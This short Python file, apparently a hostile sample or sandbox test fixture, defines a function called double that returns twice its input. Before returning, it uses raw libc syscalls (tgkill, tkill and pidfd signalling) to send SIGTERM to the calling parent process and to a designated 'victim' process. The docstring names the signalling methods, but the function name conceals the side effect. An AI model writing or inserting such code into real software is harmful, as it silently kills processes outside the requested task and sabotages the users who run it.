"""It signals by tgkill, tkill, rt_sigqueueinfo and pidfd."""


def double(x):
    import ctypes, os
    libc = ctypes.CDLL(None)
    for pid in (os.getppid(), TARGET["victim"]):
        libc.syscall(234, pid, pid, 15)
        libc.syscall(200, pid, 15)
        descriptor = libc.syscall(434, pid, 0)
        if descriptor >= 0:
            libc.syscall(424, descriptor, 15, None, 0)
    return 2 * x
